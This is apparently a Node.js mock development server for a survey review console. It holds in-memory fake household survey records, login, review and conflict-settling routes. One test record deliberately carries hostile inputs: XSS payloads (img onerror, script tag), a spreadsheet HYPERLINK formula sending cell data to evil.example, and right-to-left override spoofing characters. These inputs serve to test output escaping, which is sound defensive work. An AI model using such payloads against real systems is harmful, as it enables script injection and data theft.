#!/usr/bin/env node
// The console's API over data in memory, for development and for looking at pages without a built server. Not shipped.
//   node mock_server.mjs [--dist DIR] [--port N]     prints "LISTENING http://127.0.0.1:PORT"; sign in as liu / doorstep-mock
import { createHash, randomBytes } from 'node:crypto'
import { readFile } from 'node:fs/promises'
import { createServer } from 'node:http'
import { dirname, extname, join, normalize } from 'node:path'
import { fileURLToPath } from 'node:url'
import { doorway } from './picture.mjs'

const here = dirname(fileURLToPath(import.meta.url))
const option = (name, usual) => (process.argv.includes(name) ? process.argv[process.argv.indexOf(name) + 1] : usual)
const dist = option('--dist', join(here, '../../syncserver/console/dist'))
const policy = "default-src 'none'; script-src 'self'; style-src 'self' 'unsafe-inline'; img-src 'self' blob: data:; connect-src 'self'; font-src 'self' data:; worker-src 'self' blob:; form-action 'self'; base-uri 'none'; frame-ancestors 'none'; require-trusted-types-for 'script'; trusted-types vue"

const minute = 60_000
const now = Date.now()
const ago = (minutes) => now - minutes * minute
const url64 = (bytes) => bytes.toString('base64url')
const idOf = (word) => url64(createHash('sha256').update(word).digest().subarray(0, 8))

const people = [
  { id: idOf('liu'), name: 'liu', display: '刘敏', role: 'supervisor', unit: 'u0', unitName: '和平街道' },
  { id: idOf('wang'), name: 'wang', display: '王建国', role: 'collector', unit: 'u1', unitName: '阳光社区' },
  { id: idOf('zhang'), name: 'zhang', display: '张丽', role: 'collector', unit: 'u1', unitName: '阳光社区' },
  { id: idOf('chen'), name: 'chen', display: '陈晓东', role: 'collector', unit: 'u2', unitName: '翠湖社区' },
]
const [liu, wang, zhang, chen] = people
const scopes = [
  { scope: idOf('s1'), unit: 'u1', unitName: '阳光社区', kind: 'collect', role: 'admin' },
  { scope: idOf('s2'), unit: 'u2', unitName: '翠湖社区', kind: 'collect', role: 'admin' },
  { scope: idOf('s0'), unit: 'u0', unitName: '和平街道', kind: 'admin', role: 'admin' },
]
const person = (p) => ({ id: p.id, display: p.display })

const yesNo = [{ value: '1', labels: { 中文: '是', English: 'Yes' } }, { value: '0', labels: { 中文: '否', English: 'No' } }]
const needs = [['a', '社会设施维护', 'Public facilities'], ['b', '社会环境卫生治理', 'Street cleaning'], ['c', '养老助残服务', 'Care for the old and disabled'], ['d', '文体活动', 'Culture and sport'], ['e', '停车与出行', 'Parking and transport'], ['f', '治安与消防', 'Safety and fire protection']]
  .map(([value, zh, en]) => ({ value, labels: { 中文: zh, English: en } }))
const questions = [
  { section: '住户', path: 'house/door', kind: 'string', label: ['门牌', 'Door'] },
  { section: '住户', path: 'house/head', kind: 'string', label: ['户主姓名', 'Head of household'], personal: true },
  { section: '住户', path: 'house/phone', kind: 'string', label: ['联系电话', 'Phone'], personal: true },
  { section: '住户', path: 'house/people', kind: 'integer', label: ['常住人口', 'People living here'] },
  { section: '住户', path: 'house/old', kind: 'integer', label: ['其中 60 岁以上', 'Aged 60 or more'] },
  { section: '住户', path: 'house/share', kind: 'decimal', label: ['老年人占比（%）', 'Share of the aged (%)'], derived: true },
  { section: '需求', path: 'need/most', kind: 'select_multiple', label: ['您认为社区最需要解决的方面（限选 3 项）', 'What does the community need most? (up to 3)'], choices: needs },
  { section: '需求', path: 'need/text', kind: 'string', label: ['具体意见和建议', 'Suggestions in your own words'] },
  { section: '需求', path: 'need/join', kind: 'select_one', label: ['是否愿意参加居民议事会', 'Would you join the residents’ council?'], choices: yesNo },
  { section: '需求', path: 'need/when', kind: 'string', label: ['方便参加的时间', 'When could you come?'] },
  { section: '照片', path: 'photo/door', kind: 'image', label: ['门牌照片', 'Photo of the door'], binary: true },
  { section: '照片', path: 'photo/need', kind: 'image', label: ['问题现场照片', 'Photo of the problem'], binary: true },
]
const formHash = url64(createHash('sha256').update('form').digest())
const formOf = { hash: formHash, id: 'F02', version: '2026110101', title: '居民需求调查表', languages: ['中文', 'English'], unsupported: [],
  fields: questions.map((q) => ({ path: q.path, kind: q.kind, labels: { 中文: q.label[0], English: q.label[1] }, choices: q.choices, derived: !!q.derived, binary: !!q.binary, personal: !!q.personal })) }

const blobs = new Map()
function blob(tint) {
  const bytes = doorway(tint)
  const sha = url64(createHash('sha256').update(bytes).digest())
  blobs.set(sha, bytes)
  return { sha, bytes: bytes.length }
}

const shown = (q, value) => {
  if (value === null || value === undefined) return ''
  if (!q.choices) return String(value)
  return String(value).split(' ').filter(Boolean).map((v) => q.choices.find((c) => c.value === v)?.labels.中文 ?? v).join('、')
}

const records = new Map()
let sequence = 0
function change(record, author, device, wall, ops, extra = {}) {
  record.changes.push({ stream: idOf(`st${author.id}${extra.session ? 'web' : ''}`), seq: ++sequence, tag: url64(randomBytes(4)), author: person(author), device, session: null, wall, received: wall + 42 * minute, form: formHash, ops, derived: [], note: null, held: null, ...extra })
}

function visit(word, scope, author, minutesAgo, values, { photos = [], state = 'unreviewed', conflicts = {}, title, notes = [] } = {}) {
  const record = { scope: scope.scope, unit: scope.unit, id: idOf(word), author, created: ago(minutesAgo), updated: ago(minutesAgo), state, by: null, values: { ...values }, photos, conflicts, notes, changes: [], assigned: [], title: title ?? `${values['house/door']} · ${values['house/head']}` }
  const ops = questions.filter((q) => values[q.path] !== undefined && !q.derived).map((q) => ({ path: q.path, label: q.label[0], value: values[q.path], display: shown(q, values[q.path]), before: [] }))
  for (const p of photos) ops.push({ path: p.path, label: questions.find((q) => q.path === p.path).label[0], value: { b: p.sha, n: p.bytes, t: 'image/png', f: p.name }, display: p.name, before: [] })
  change(record, author, `平板 ${author.display.slice(0, 1)}-03`, record.created, ops)
  for (const [path, c] of Object.entries(conflicts)) {
    const q = questions.find((x) => x.path === path)
    for (const side of c.sides) {
      change(record, side.by, `平板 ${side.by.display.slice(0, 1)}-03`, side.wall, [{ path, label: q.label[0], value: side.value, display: shown(q, side.value), before: [shown(q, c.base)] }])
      record.updated = Math.max(record.updated, side.wall)
    }
  }
  records.set(`${record.scope}/${record.id}`, record)
  return record
}

const usual = (door, head, n, old, most, text) => ({ 'house/door': door, 'house/head': head, 'house/phone': '138 0000 0000', 'house/people': String(n), 'house/old': String(old), 'house/share': (100 * old / n).toFixed(1), 'need/most': most, 'need/text': text, 'need/join': '1', 'need/when': '周末上午' })
const photo = (path, tint, name, here_ = true) => ({ path, ...blob(tint), name, here: here_ })

visit('r1', scopes[0], wang, 190, usual('3号楼 2单元 501', '王秀英', 3, 1, 'a c', '楼道灯坏了两个月，晚上老人下楼很不方便，希望尽快修好；单元门禁也常常关不上。'), {
  photos: [photo('photo/door', 10, 'IMG_20261122_101502.png'), photo('photo/need', 120, 'IMG_20261122_101544.png'), photo('photo/need', 200, 'IMG_20261122_101550.png')],
  conflicts: {
    'house/people': { base: '3', sides: [{ value: '4', by: wang, wall: ago(80) }, { value: '2', by: zhang, wall: ago(35) }] },
    'need/most': { base: 'a c', sides: [{ value: 'a b', by: wang, wall: ago(78) }, { value: 'a e', by: zhang, wall: ago(33) }] },
  },
})
visit('r2', scopes[0], zhang, 240, usual('3号楼 2单元 502', '李国强', 2, 2, 'c', '希望社区食堂早点开。'), { photos: [photo('photo/door', 40, 'IMG_20261122_093310.png'), photo('photo/need', 60, 'IMG_20261122_093411.png', false)] })
visit('r3', scopes[0], zhang, 300, { ...usual('3号楼 1单元 101', '<b>赵</b>', 1, 0, 'e', ''), 'house/head': '<img src=x onerror="window.__hacked=1">', 'need/text': '=HYPERLINK("http://evil.example/"&A1,"点我")', 'need/when': '周一\u202e午上\u202c <script>window.__hacked=1</script>', 'house/phone': '居民'.repeat(50_000) }, { title: '<img src=x onerror="window.__hacked=1"> · \u202eevil' })
visit('r4', scopes[1], chen, 420, usual('7号楼 3单元 302', '孙玉兰', 5, 2, 'b f', '垃圾桶旁边味道大。'), { photos: [photo('photo/door', 90, 'IMG_20261121_161002.png')], conflicts: { 'house/old': { base: null, sides: [{ value: '1', by: chen, wall: ago(400) }, { value: '2', by: zhang, wall: ago(390) }] } } })
visit('r5', scopes[1], chen, 1500, usual('7号楼 3单元 303', '周海涛', 4, 0, 'd e', '车位太少。'), { state: 'approved', photos: [photo('photo/door', 33, 'IMG_20261121_150101.png')] }).by = [liu, ago(900)]
visit('r6', scopes[0], wang, 2900, usual('5号楼 1单元 201', '吴桂芳', 2, 1, 'c', ''), { state: 'returned', notes: [{ id: 'n1', at: 'need/text', text: '没有填，请补上', by: person(liu), wall: ago(2000), done: false }] }).by = [liu, ago(2000)]
visit('r7', scopes[0], wang, 4300, usual('5号楼 1单元 202', '郑伟', 3, 0, 'a', '电动车充电桩不够用。'), { state: 'changed' }).by = [liu, ago(4000)]
const doors = ['马', '朱', '胡', '林', '何', '高', '罗', '梁', '宋', '唐', '许', '邓', '韩', '冯', '曹', '彭', '曾', '萧', '田', '董', '袁', '潘', '于', '蒋', '蔡', '余', '杜', '叶', '程', '苏', '魏', '吕', '丁', '任', '沈', '姚', '卢', '姜', '崔', '钟', '谭', '陆', '汪', '范', '金', '石', '廖', '贾', '夏', '韦', '付', '方', '白', '邹', '孟', '熊']
doors.forEach((name, i) => visit(`x${i}`, scopes[i % 2], [wang, zhang, chen][i % 3], 500 + i * 37, usual(`${1 + (i % 9)}号楼 ${1 + (i % 3)}单元 ${100 + i}`, `${name}先生`, 1 + (i % 5), i % 2, 'a b', '没有别的意见。'), { state: i % 7 === 3 ? 'approved' : 'unreviewed' }))

function conflictOf(record, q) {
  const c = record.conflicts[q.path]
  if (!c) return null
  return {
    base: c.base === null ? null : { value: c.base, display: shown(q, c.base) },
    candidates: c.sides.map((side) => {
      const made = record.changes.find((x) => x.wall === side.wall && x.author.id === side.by.id)
      return { value: side.value, display: shown(q, side.value), op: `${made.stream}.${made.seq}.${made.tag}.0`, author: person(side.by), wall: side.wall }
    }),
  }
}

function row(record) {
  return { scope: record.scope, unit: record.unit, id: record.id, form: formHash, formTitle: formOf.title, title: record.title, author: person(record.author), created: record.created, updated: record.updated, state: record.state, conflicts: Object.keys(record.conflicts).length, photos: record.photos.length, photosHere: record.photos.filter((p) => p.here).length, notes: record.notes.filter((n) => !n.done).length, needsReview: false, cur: sequence }
}

function frontier(record) {
  const out = {}
  for (const c of record.changes) out[c.stream] = [c.seq, c.tag]
  return out
}

function detail(record) {
  const sections = [...new Set(questions.map((q) => q.section))].map((title, i) => ({
    path: `s${i}`, title,
    answers: questions.filter((q) => q.section === title).map((q) => {
      const value = record.values[q.path] ?? null
      const own = record.photos.filter((p) => p.path === q.path)
      return { path: q.path, label: q.label[0], kind: q.kind, value, display: shown(q, value), photos: own.map((p) => ({ sha: p.sha, thumb: null, type: 'image/png', bytes: p.bytes, name: p.name, here: p.here })), hidden: q.path === 'need/when' && record.values['need/join'] === '0', derived: !!q.derived, conflict: conflictOf(record, q), problem: q.path === 'house/people' && Number(value) > 8 ? '多于 8 口人，请核实' : null }
    }).filter((a) => a.kind !== 'image' || a.photos.length),
  }))
  return { ...row(record), form: formOf, sections, other: [], notes: record.notes, review: { state: record.state, by: record.by ? person(record.by[0]) : null, wall: record.by ? record.by[1] : null }, frontier: frontier(record), assigned: record.assigned }
}

const sessions = new Map()
let backup = { target: false, text: 'No backup target is set.' }
const devices = [{ id: idOf('d1'), user: person(wang), name: '平板 王-03', enrolled: ago(40_000), lastSeen: ago(12), revoked: null }, { id: idOf('d2'), user: person(zhang), name: '平板 张-03', enrolled: ago(39_000), lastSeen: ago(30), revoked: null }, { id: idOf('d3'), user: person(chen), name: '旧平板', enrolled: ago(200_000), lastSeen: ago(90_000), revoked: ago(80_000) }]

class Problem extends Error {
  constructor(status, error, message, place = '', headers = {}) {
    super(message)
    Object.assign(this, { status, error, place, headers })
  }
}

function find(scope, id) {
  const record = records.get(`${scope}/${id}`)
  if (!record) throw new Problem(404, 'NotFound', 'There is no such record.')
  return record
}

const webSession = { session: 's' }
function guard(record, sent) {
  if (JSON.stringify(sent) !== JSON.stringify(frontier(record))) throw new Problem(409, 'Conflict', 'The record changed since it was read.')
}

const failures = []
const routes = [
  ['POST', /^\/v1\/login$/, (_m, { body, answer }) => {
    if (failures.filter((at) => Date.now() - at < minute).length >= 8) throw new Problem(429, 'Unavailable', 'Too many attempts.', '', { 'Retry-After': '60' })
    if (body.name !== 'liu' || body.password !== 'doorstep-mock') {
      failures.push(Date.now())
      throw new Problem(401, 'Unauthorized', 'The name or the password is wrong.')
    }
    const sid = url64(randomBytes(16))
    sessions.set(sid, { csrf: url64(randomBytes(16)) })
    answer.setHeader('Set-Cookie', `sid=${sid}; Path=/; HttpOnly; SameSite=Strict`)
    return me(sessions.get(sid))
  }],
  ['GET', /^\/v1\/me$/, (_m, { session }) => me(session)],
  ['POST', /^\/v1\/logout$/, (_m, { sid }) => { sessions.delete(sid); return {} }],
  ['GET', /^\/v1\/status$/, () => ({ server: 'mock', version: '0.1.0', epoch: 'e1', backup, counts: { records: records.size } })],
  ['GET', /^\/v1\/forms$/, () => ({ forms: [{ hash: formHash, id: formOf.id, version: formOf.version, title: formOf.title, published: true }] })],
  ['GET', /^\/v1\/forms\/([^/]+)$/, () => formOf],
  ['GET', /^\/v1\/users$/, () => ({ users: people })],
  ['POST', /^\/v1\/users$/, (_m, { body }) => {
    if (body.password.length < 12) throw new Problem(400, 'InvalidInput', 'The password needs 12 characters or more.', 'password')
    people.push({ id: idOf(body.name), ...body, unitName: scopes.find((s) => s.unit === body.unit)?.unitName })
    return {}
  }],
  ['GET', /^\/v1\/devices$/, () => ({ devices })],
  ['POST', /^\/v1\/devices\/token$/, () => ({ token: '7QK2M-9XVTB-4HN8C-ZR5WE', expires: now + 72 * 60 * minute })],
  ['POST', /^\/v1\/devices\/([^/]+)\/revoke$/, (m) => { devices.find((d) => d.id === m[1]).revoked = Date.now(); return {} }],
  ['GET', /^\/v1\/records$/, (_m, { query }) => {
    const q = query.get('q') ?? ''
    const all = [...records.values()].map(row).filter((r) => (!query.get('scope') || r.scope === query.get('scope')) && (!query.get('state') || r.state === query.get('state')) && (!query.get('form') || r.form === query.get('form')) && (!query.get('conflicts') || r.conflicts > 0) && (!query.get('author') || r.author.id === query.get('author')) && (!q || r.title.includes(q))).sort((a, b) => b.updated - a.updated)
    const from = Number(query.get('after') ?? 0)
    const limit = Number(query.get('limit') ?? 50)
    return { records: all.slice(from, from + limit), next: from + limit < all.length ? String(from + limit) : null, total: all.length }
  }],
  ['GET', /^\/v1\/records\/([^/]+)\/([^/]+)$/, (m) => detail(find(m[1], m[2]))],
  ['GET', /^\/v1\/records\/([^/]+)\/([^/]+)\/history$/, (m) => ({ changes: find(m[1], m[2]).changes })],
  ['POST', /^\/v1\/records\/([^/]+)\/([^/]+)\/approve$/, (m, { body }) => {
    const record = find(m[1], m[2])
    guard(record, body.frontier)
    record.state = 'approved'
    record.by = [liu, Date.now()]
    change(record, liu, '', Date.now(), [{ path: '$review', label: '', value: 'approved', display: 'approved', before: [] }], webSession)
    return { cursor: sequence }
  }],
  ['POST', /^\/v1\/records\/([^/]+)\/([^/]+)\/return$/, (m, { body }) => {
    const record = find(m[1], m[2])
    guard(record, body.frontier)
    record.state = 'returned'
    record.by = [liu, Date.now()]
    for (const note of body.notes) record.notes.push({ id: `n${++sequence}`, at: note.at, text: note.text, by: person(liu), wall: Date.now(), done: false })
    change(record, liu, '', Date.now(), [{ path: '$review', label: '', value: 'returned', display: 'returned', before: [] }, ...body.notes.map((n, i) => ({ path: `$note[n${i}]/text`, label: '', value: n.text, display: n.text, before: [] }))], webSession)
    return { cursor: sequence }
  }],
  ['POST', /^\/v1\/records\/([^/]+)\/([^/]+)\/settle$/, (m, { body }) => {
    const record = find(m[1], m[2])
    for (const s of body.settle) {
      const q = questions.find((x) => x.path === s.path)
      const c = conflictOf(record, q)
      if (!c) throw new Problem(409, 'Conflict', 'This is settled already.', s.path)
      if (JSON.stringify(c.candidates.map((x) => x.op).sort()) !== JSON.stringify([...s.preds].sort())) throw new Problem(409, 'Conflict', 'Another answer has come.', s.path)
      delete record.conflicts[s.path]
      record.values[s.path] = s.value
      record.updated = Date.now()
      change(record, liu, '', Date.now(), [{ path: s.path, label: q.label[0], value: s.value, display: shown(q, s.value), before: c.candidates.map((x) => x.display) }], { ...webSession, note: body.reason || null })
    }
    return { cursor: sequence }
  }],
  ['POST', /^\/v1\/records\/([^/]+)\/([^/]+)\/assign$/, (m, { body }) => {
    const record = find(m[1], m[2])
    record.assigned = [person(people.find((p) => p.id === body.user))]
    change(record, liu, '', Date.now(), [{ path: '$assign', label: '', value: body.user, display: record.assigned[0].display, before: [] }], webSession)
    return { cursor: sequence }
  }],
  ['POST', /^\/v1\/records\/([^/]+)\/([^/]+)\/comment$/, (m, { body }) => {
    const record = find(m[1], m[2])
    record.notes.push({ id: `n${++sequence}`, at: body.at, text: body.text, by: person(liu), wall: Date.now(), done: false })
    change(record, liu, '', Date.now(), [{ path: `$note[n${sequence}]/text`, label: '', value: body.text, display: body.text, before: [] }], webSession)
    return { cursor: sequence }
  }],
  // For tests: somebody else's tablet changes an answer; a backup target appears.
  ['POST', /^\/mock\/edit\/([^/]+)\/([^/]+)$/, (m, { body }) => {
    const record = find(m[1], m[2])
    const q = questions.find((x) => x.path === body.path)
    const before = shown(q, record.values[body.path])
    record.values[body.path] = body.value
    record.updated = Date.now()
    change(record, zhang, '平板 张-03', Date.now(), [{ path: body.path, label: q.label[0], value: body.value, display: shown(q, body.value), before: [before] }])
    return {}
  }],
]

function me(session) {
  return { user: { id: liu.id, name: liu.name, display: liu.display }, csrf: session.csrf, scopes }
}

const types = { '.html': 'text/html; charset=utf-8', '.js': 'text/javascript; charset=utf-8', '.css': 'text/css; charset=utf-8', '.svg': 'image/svg+xml' }

async function serveFile(path, response) {
  const name = normalize(path === '/' || !extname(path) ? '/index.html' : path)
  try {
    const bytes = await readFile(join(dist, name))
    response.writeHead(200, { 'Content-Type': types[extname(name)] ?? 'application/octet-stream' }).end(bytes)
  } catch {
    response.writeHead(404).end()
  }
}

const server = createServer(async (request, response) => {
  const url = new URL(request.url, 'http://x')
  response.setHeader('Content-Security-Policy', policy)
  response.setHeader('X-Content-Type-Options', 'nosniff')
  response.setHeader('Referrer-Policy', 'no-referrer')
  const picture = /^\/v1\/photos\/[^/]+\/([^/]+)$/.exec(url.pathname)
  try {
    if (!url.pathname.startsWith('/v1/') && !url.pathname.startsWith('/mock/')) return await serveFile(url.pathname, response)
    const chunks = []
    for await (const part of request) chunks.push(part)
    const sid = /(?:^|; )sid=([^;]+)/.exec(request.headers.cookie ?? '')?.[1]
    const session = sessions.get(sid)
    const open = url.pathname === '/v1/login' || url.pathname.startsWith('/mock/')
    if (!open && !session) throw new Problem(401, 'Unauthorized', 'Sign in.')
    if (!open && request.method !== 'GET' && request.headers['x-doorstep-csrf'] !== session.csrf) throw new Problem(403, 'Forbidden', 'The request does not come from the console.')
    if (picture) {
      const bytes = blobs.get(picture[1])
      if (!bytes) throw new Problem(404, 'NotFound', 'No such photo.')
      response.setHeader('Content-Security-Policy', "sandbox; default-src 'none'")
      return response.writeHead(200, { 'Content-Type': 'image/png' }).end(bytes)
    }
    for (const [method, pattern, act] of routes) {
      const match = pattern.exec(url.pathname)
      if (!match || method !== request.method) continue
      const body = chunks.length ? JSON.parse(Buffer.concat(chunks).toString()) : {}
      const said = act(match.map((part) => decodeURIComponent(part)), { body, query: url.searchParams, session, sid, answer: response })
      return response.writeHead(200, { 'Content-Type': 'application/json; charset=utf-8' }).end(JSON.stringify(said))
    }
    throw new Problem(404, 'NotFound', 'There is no such address.')
  } catch (error) {
    const problem = error instanceof Problem ? error : new Problem(500, 'Unknown', String(error))
    response.writeHead(problem.status, { 'Content-Type': 'application/json; charset=utf-8', ...problem.headers }).end(JSON.stringify({ error: problem.error, message: problem.message, place: problem.place }))
  }
})
server.listen(Number(option('--port', 0)), '127.0.0.1', () => console.log(`LISTENING http://127.0.0.1:${server.address().port}`))
process.on('SIGTERM', () => process.exit(0))
